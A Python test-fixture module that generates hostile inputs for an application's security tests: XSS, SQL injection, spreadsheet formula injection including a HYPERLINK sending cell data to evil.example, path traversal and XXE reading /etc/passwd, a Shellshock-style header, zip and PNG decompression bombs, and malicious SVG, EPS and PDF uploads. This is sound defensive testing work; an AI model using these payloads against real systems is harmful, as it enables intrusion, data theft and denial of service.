"""Hostile input of our own, so that the attack tests mean something also where the shared folder is missing."""

import io
import json
import struct
import zipfile
import zlib
from typing import Any

from PIL import Image
from PIL.PngImagePlugin import PngInfo
from pillow_heif import register_heif_opener

register_heif_opener()

SCRIPTS = (
    "<script>window.pwned=1</script>",
    '"><img src=x onerror="window.pwned=1">',
    "'><svg onload=window.pwned=1>",
    "</textarea><script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    '<!--<img src="--><img src=x onerror=window.pwned=1//">',
    "javascript:window.pwned=1//",
    'https://evil.example/"onmouseover=window.pwned=1//',
    "<details open ontoggle=window.pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} %(secret)s {0.__class__}",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "<style>*{display:none}</style><base href=//evil.example>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
    "`-window.pwned=1-`",
    "\u2028window.pwned=1\u2029",
)
SQL = (
    "'; drop table contribution; --",
    "' or '1'='1",
    "1) union select password_hash from account --",
    "%' and pg_sleep(5) --",
    "\\'; select pg_sleep(5); --",
    "%_\\",
    "$$; select 1; $$",
    ":slug %(slug)s %s",
    "'||pg_sleep(5)||'",
)
FORMULAS = (
    "=cmd|'/c calc'!A0",
    "+2+5+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"klicka")',
    "\t=1+1",
    "\r=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "x\n=1+1",
    '";=1+1;"',
    "http://evil.example/",
    "＝1+1",
)
STRANGE = (
    "\x00",
    "a\x00b",
    "\x00\x01\x02\x1b[31m\x7f\x9f",
    "\ud800",
    "text\udfffmitt i",
    "\u202egnp.exe",
    "\u2066\u2067\u2068\u2069\u200e\u200f",
    "\ufeff\u200b\u2060",
    "Z̸̢̛͚̲a̵l̴g̶o̷" * 30,
    "👨‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿" * 50,
    "ﷺ" * 200,
    "ا\u200c\u200bل",
    "\U0010ffff\ufffe\uffff",
    "İıſẞ",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "file:///etc/passwd",
    "a" * 10_000,
    "a" * 100_001,
    "\n" * 5_000 + "x",
    "²", "٣", "1e400", "-0", "NaN", "Infinity", "0x10", "1_000", "9" * 400, "９９",
    "true", "null", "[]", "{}",
    "Content-Type: text/html\r\n\r\n<script>window.pwned=1</script>",
    "a@b.se\r\nBcc: offer@exempel.se",
    "/%2e%2e/", "//evil.example", "/\t/evil.example", "/\\evil.example", "http:/evil.example", "%0d%0aX: y",
    "TRE-26-000001\x00", "tre-26-000001",
)  # fmt: skip
TEXTS = (*SCRIPTS, *SQL, *FORMULAS, *STRANGE)
"""Every one is posted in every field that takes words, and in every address."""

_DEEP = 100_000
BODIES: tuple[bytes, ...] = (
    b"",
    b"\x00",
    b"\xff\xfe{}",
    b"\xef\xbb\xbf{}",
    '{"type": "Feature"}'.encode("utf-16"),
    b"[" * _DEEP,
    b'{"a":' * _DEEP,
    b"[" * _DEEP + b"]" * _DEEP,
    b"null",
    b"5",
    b'"text"',
    b"[]",
    b"{}",
    b"{",
    b"{]",
    b"{'type': 'Feature'}",
    b'{"type": "Feature", "type": "Feature"}',
    b'{"type": "Feature", "properties": null, "geometry": null}',
    b'{"type": "Feature", "properties": [], "geometry": null}',
    b'{"type": "Feature", "properties": {"text": "\\ud800"}, "geometry": {"type": "Point", "coordinates": [1, 2]}}',
    b'{"type": "Feature", "properties": {}, "geometry": {"type": "Point", "coordinates": [NaN, Infinity]}}',
    b'{"type": "Feature", "properties": {"mood": ' + b"9" * 5_000 + b"}}",
    b'{"type": "Feature", "properties": {"mood": 1e999}}',
    b'{"__proto__": {"admin": true}, "constructor": {"prototype": {"admin": true}}}',
    b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    b"a" * 1_100_000,
)

_RING = [[13.15, 55.37], [13.16, 55.37], [13.16, 55.38], [13.15, 55.37]]
GEOMETRIES: tuple[Any, ...] = (
    None, True, 5, "POINT(13 55)", [], {}, [13.15, 55.37],
    {"type": None}, {"type": []}, {"type": "point", "coordinates": [13.15, 55.37]},
    {"type": "Point"}, {"type": "Point", "coordinates": None}, {"type": "Point", "coordinates": {}},
    {"type": "Point", "coordinates": []}, {"type": "Point", "coordinates": [13.15]},
    {"type": "Point", "coordinates": [[13.15, 55.37]]}, {"type": "Point", "coordinates": ["13.15", "55.37"]},
    {"type": "Point", "coordinates": [None, None]}, {"type": "Point", "coordinates": [True, False]},
    {"type": "Point", "coordinates": [1e308, -1e308]}, {"type": "Point", "coordinates": [10**300, 0]},
    {"type": "Point", "coordinates": [float("nan"), 55.37]}, {"type": "Point", "coordinates": [float("inf"), 55.37]},
    {"type": "Point", "coordinates": [0, 90]}, {"type": "Point", "coordinates": [0, -90]},
    {"type": "Point", "coordinates": [180.0000001, 0]}, {"type": "Point", "coordinates": [383209, 6138079]},
    {"type": "Point", "coordinates": [13.15, 55.37, 1e400]}, {"type": "Point", "coordinates": [13.15] * 5_000},
    {"type": "LineString", "coordinates": []}, {"type": "LineString", "coordinates": [[13.15, 55.37]]},
    {"type": "LineString", "coordinates": [[13.15, 55.37]] * 2},
    {"type": "LineString", "coordinates": [[13.15, 55.37], [13.16, 55.38]] * 20_000},
    {"type": "Polygon", "coordinates": []}, {"type": "Polygon", "coordinates": [[]]},
    {"type": "Polygon", "coordinates": [_RING[:3]]}, {"type": "Polygon", "coordinates": [[[13.15, 55.37]] * 4]},
    {"type": "Polygon", "coordinates": [[[13.1, 55.36], [13.2, 55.4], [13.2, 55.36], [13.1, 55.4], [13.1, 55.36]]]},
    {"type": "Polygon", "coordinates": [_RING, [[0, 0], [1, 0], [1, 1], [0, 0]]]},
    {"type": "Polygon", "coordinates": [[[-180, -85], [180, -85], [180, 85], [-180, 85], [-180, -85]]]},
    {"type": "MultiPoint", "coordinates": [[13.15, 55.37]]}, {"type": "MultiPolygon", "coordinates": [[_RING]]},
    {"type": "GeometryCollection", "geometries": [{"type": "Point", "coordinates": [13.15, 55.37]}]},
    {"type": "Feature", "geometry": {"type": "Point", "coordinates": [13.15, 55.37]}, "properties": {}},
    {"type": "Point", "coordinates": [13.15, 55.37], "crs": {"type": "name", "properties": {"name": "EPSG:3006"}}},
    {"type": "Point", "coordinates": [13.15, 55.37], "bbox": ["a"]},
)  # fmt: skip

HEADERS: tuple[dict[str, str], ...] = (
    {"Host": "evil.example"},
    {"Host": "<script>"},
    {"X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "javascript", "X-Forwarded-For": "' or 1=1"},
    {"Accept-Language": "sv-\x80\xff;q=x,<script>,*;q=9e999"},
    {"Accept-Language": "en," * 5_000},
    {"Cookie": "session=x; language=<script>; device=' or 1=1; ="},
    {"Cookie": "session=.eJw; " + "a=b; " * 2_000},
    {"If-None-Match": '"' + "x" * 8_000},
    {"If-None-Match": 'W/"\xe5", *, ,'},
    {"If-Modified-Since": "Mon, 99 Foo 99999 99:99:99"},
    {"Range": "bytes=-9999999999999999999999"},
    {"Range": "bytes=5-2,x-"},
    {"Accept-Encoding": "gzip;q=x, \x01"},
    {"X-Edit-Token": "\xff\xfe"},
    {"Sec-Fetch-Site": "\xff"},
    {"Referer": "javascript:alert(1)", "Origin": "null"},
    {"Authorization": "Basic " + "A" * 5_000},
    {"User-Agent": "() { :;}; /bin/true"},
    {"Content-Length": "0", "Transfer-Encoding": "identity"},
)


def _png(*chunks: tuple[bytes, bytes]) -> bytes:
    made = b"\x89PNG\r\n\x1a\n"
    for kind, data in chunks:
        made += struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return made


def _saved(image: Image.Image, kind: str, **options: Any) -> bytes:
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def _header(width: int, height: int, depth: int = 8, colour: int = 2) -> tuple[bytes, bytes]:
    return b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)


def bad_photos() -> dict[str, bytes]:
    """Files that must be refused with a reason."""
    noise = _saved(Image.effect_noise((300, 200), 60).convert("RGB"), "JPEG", quality=90)
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("bomb", b"\0" * 5_000_000)
        file.writestr("../../slip.jpg", noise)
    zeros = zlib.compress(b"\0" * 20_000_000, 9)
    return {
        "nothing": b"",
        "one byte": b"\xff",
        "svg with a script": b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "html called jpg": b"<html><script>alert(1)</script></html>",
        "zip bomb and slip": zipped.getvalue(),
        "png of 60000 by 60000": _png(_header(60_000, 60_000), (b"IDAT", zeros), (b"IEND", b"")),
        "png that says it is negative": _png(_header(2**31, 1), (b"IDAT", b""), (b"IEND", b"")),
        "png with too little in it": _png(_header(500, 500), (b"IDAT", zlib.compress(b"\0" * 30)), (b"IEND", b"")),
        "png with a text bomb": _png(_header(1, 1), (b"zTXt", b"c\0\0" + zlib.compress(b"\0" * 90_000_000, 9))),
        "jpeg cut in half": noise[: len(noise) // 2],
        "jpeg with its size changed": noise.replace(noise[noise.index(b"\xff\xc0") : noise.index(b"\xff\xc0") + 9],
                                                    b"\xff\xc0\x00\x11\x08\xff\xff\xff\xff"),
        "gif": _saved(Image.new("P", (9, 9)), "GIF"),
        "tiff": _saved(Image.new("RGB", (9, 9)), "TIFF"),
        "bmp": _saved(Image.new("RGB", (9, 9)), "BMP"),
        "eps that would start ghostscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/x) (r) file\n",
        "pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
        "heic that is only a name": b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\0" * 400,
        "webp that is only a name": b"RIFF\xff\xff\xff\x7fWEBPVP8X" + b"\0" * 100,
    }  # fmt: skip


def good_photos() -> dict[str, bytes]:
    """Odd files that are photos all the same: they come out as plain JPEG, without what was hidden in them."""
    image = Image.effect_noise((60, 40), 50).convert("RGB")
    exif = Image.Exif()
    exif[0x010E], exif[0x013B], exif[0x0112] = SCRIPTS[0], "HEMLIG", 6
    exif.get_ifd(0x8825)[1], exif.get_ifd(0x8825)[2] = "N", (55.0, 22.0, 30.0)
    words = PngInfo()
    words.add_text("Comment", "HEMLIG " + SCRIPTS[0])
    frames = [Image.new("RGB", (60, 40), colour) for colour in ("red", "green", "blue")]
    jpeg = _saved(image, "JPEG")
    return {
        "place in exif": _saved(image, "JPEG", exif=exif),
        "place in a png": _saved(image, "PNG", exif=exif, pnginfo=words),
        "place in a webp": _saved(image, "WEBP", exif=exif, xmp=b"<x:xmpmeta>HEMLIG</x:xmpmeta>"),
        "place in a heic": _saved(image, "HEIF", exif=exif.tobytes()),
        "comment": _saved(image, "JPEG", comment=b"HEMLIG <script>"),
        "page at the end of a jpeg": jpeg + b"<script>HEMLIG</script>",
        "zip at the end of a jpeg": jpeg + b"PK\x03\x04HEMLIG",
        "cmyk": _saved(Image.new("CMYK", (60, 40), (10, 200, 30, 4)), "JPEG"),
        "16 bits": _saved(Image.new("I;16", (60, 40), 40_000), "PNG"),
        "palette with a hole": _saved(Image.new("P", (60, 40)), "PNG", transparency=0),
        "black and white": _saved(Image.new("1", (60, 40)), "PNG"),
        "animated png": _saved(frames[0], "PNG", save_all=True, append_images=frames[1:]),
        "animated webp": _saved(frames[0], "WEBP", save_all=True, append_images=frames[1:]),
        "several pictures in one (mpo)": _saved(frames[0], "MPO", save_all=True, append_images=frames[1:]),
        "one pixel": _saved(Image.new("RGB", (1, 1)), "PNG"),
        "very long and thin": _saved(Image.new("RGB", (9_000, 1)), "PNG"),
        "broken exif": jpeg[:2] + b"\xff\xe1\x00\x10Exif\x00\x00MM\x00\x2a\xff\xff\xff\xff" + jpeg[2:],
        "broken colour profile": _saved(image, "JPEG", icc_profile=b"HEMLIG" * 50),
    }


def as_json(value: Any) -> bytes:
    """JSON text, with NaN and Infinity as they are, which strict readers refuse."""
    return json.dumps(value, ensure_ascii=True).encode()
